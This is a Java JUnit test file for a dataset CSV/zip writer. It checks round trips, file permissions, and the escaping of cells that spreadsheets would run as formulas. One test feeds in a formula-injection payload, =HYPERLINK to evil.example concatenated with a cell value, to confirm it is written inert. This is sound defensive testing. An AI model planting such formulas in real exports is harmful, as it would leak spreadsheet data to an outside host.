package id.padu.dataset;

import static org.assertj.core.api.Assertions.assertThat;

import id.padu.domain.Agency;
import id.padu.domain.Dataset;
import id.padu.domain.UsageSeries;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class DatasetWriterTest {

    @TempDir
    Path dir;

    /** The good fixture plus awkward text and a longer usage series with gaps. */
    private Dataset rich() throws DatasetException {
        Dataset d = DatasetReader.readFolder(Fixture.good()
                .put("services.csv", """
                        agency,name,criticality,hostname,public_ip
                        RSUD,"SIMRS, ""baru""
                        dua baris",critical,simrs.example.go.id,2001:db8::10
                        """)
                .put("settings.csv", """
                        key,value
                        plan.quantile,0.9
                        plan.growth,0.35
                        plan.start_date,2026-01-05
                        plan.broadband_share,0.5
                        plan.min_sla_pct,99.5
                        plan.min_cir_mbps,2.5
                        plan.mir,3x
                        plan.central_budget_idr,1500000000
                        migrate.windows,SAT 07:00-13:00;SUN 07:00-11:00
                        migrate.blackouts,2026-03-20..2026-03-31;2026-12-01..2026-12-31
                        custom.note,kept as given
                        """)
                .writeTo(dir.resolve("in")));
        Map<String, UsageSeries> usage = new LinkedHashMap<>(d.usage());
        int n = 2000;
        long[] down = new long[n];
        long[] up = new long[n];
        for (int i = 0; i < n; i++) {
            boolean gap = i % 97 == 5;
            down[i] = gap ? UsageSeries.MISSING : 1_000_000L + i * 1_234L;
            up[i] = gap ? UsageSeries.MISSING : 100_000L + i;
        }
        usage.put("KEC-BAAMANG", new UsageSeries("KEC-BAAMANG", 1_740_960_000L, 300, down, up));
        return new Dataset(d.agencies(), d.subscriptions(), d.offers(), d.links(), d.services(), usage, d.settings());
    }

    @Test
    void folderRoundTripGivesTheSameDataset() throws Exception {
        Dataset d = rich();
        Path out = dir.resolve("out");
        DatasetWriter.writeFolder(d, out);
        assertThat(DatasetReader.readFolder(out)).isEqualTo(d);
        assertThat(Files.readString(out.resolve("usage.csv")))
                .contains("DISKOMINFO,2025-03-03T08:00:00+07:00,1000000,200000\n");
    }

    @Test
    void zipRoundTripGivesTheSameDataset() throws Exception {
        Dataset d = rich();
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        DatasetWriter.writeZip(d, bytes);
        assertThat(DatasetReader.readZip(new ByteArrayInputStream(bytes.toByteArray()))).isEqualTo(d);
    }

    @Test
    void withoutLinksFileStaysWithout() throws Exception {
        Dataset d = DatasetReader.readFolder(Fixture.minimal().writeTo(dir.resolve("in")));
        Path out = dir.resolve("out");
        Files.createDirectories(out);
        Files.writeString(out.resolve("links.csv"), "stale");
        DatasetWriter.writeFolder(d, out);
        assertThat(out.resolve("links.csv")).doesNotExist();
        Dataset back = DatasetReader.readFolder(out);
        assertThat(back.hasLinksFile()).isFalse();
        assertThat(back).isEqualTo(d);
    }

    @Test
    void textThatASpreadsheetWouldRunAsAFormulaIsWrittenInertAndReadsBack() throws Exception {
        // Issue #19: the export wrote =HYPERLINK(...) raw, which Excel runs when the CSV is opened.
        List<String> names = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")", "+1", "-Dinas", "@SUM(A1:A9)",
                "'=already quoted", "''+two", "'plain apostrophe", "Dinas = Kesehatan");
        List<Agency> agencies = new ArrayList<>();
        for (int i = 0; i < names.size(); i++) {
            agencies.add(new Agency("F" + i, names.get(i), null, null, null));
        }
        agencies.add(new Agency("-MINUS", "code starting with a minus", null, null, null));
        Dataset d = new Dataset(agencies, List.of(), List.of(), null, List.of(), Map.of(), null);
        DatasetWriter.writeFolder(d, dir);
        String csv = Files.readString(dir.resolve("agencies.csv"));
        for (String line : csv.split("\n")) {
            for (String cell : line.split(",")) {
                String c = cell.startsWith("\"") ? cell.substring(1) : cell;
                assertThat(c).as(line).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("-").doesNotStartWith("@");
            }
        }
        assertThat(csv).contains("F0,\"'=HYPERLINK(").contains("F5,'''+two").contains("F6,'plain apostrophe").contains("'-MINUS,");
        assertThat(DatasetReader.readFolder(dir)).isEqualTo(d);
        assertThat(CsvTable.cell("-5")).as("a number stays a number").isEqualTo("-5");
    }

    @Test
    void aDatasetBuiltInCodeRoundTripsToo() throws Exception {
        List<Agency> agencies = new ArrayList<>();
        for (int i = 0; i < 5; i++) {
            agencies.add(new Agency("A" + i, "Agency; " + i, null, null, null));
        }
        Dataset d = new Dataset(agencies, List.of(), List.of(), null, List.of(), Map.of(), null);
        DatasetWriter.writeFolder(d, dir);
        assertThat(DatasetReader.readFolder(dir)).isEqualTo(d);
    }

    @Test
    void writtenFilesAreReadableLikeAnyNewFileNotPrivateTempFiles() throws Exception {
        Path out = dir.resolve("out");
        DatasetWriter.writeFolder(rich(), out);
        // What the umask gives any new file (0644 under the usual 022); temp files would be 0600.
        Path plain = Files.createFile(dir.resolve("plain.txt"));
        var expected = Files.getPosixFilePermissions(plain);
        try (var files = Files.list(out)) {
            for (Path f : files.toList()) {
                assertThat(Files.getPosixFilePermissions(f)).as(f.toString()).isEqualTo(expected);
            }
        }
        try (var files = Files.list(out)) {
            assertThat(files.map(p -> p.getFileName().toString())).noneMatch(n -> n.endsWith(".tmp"));
        }
    }
}
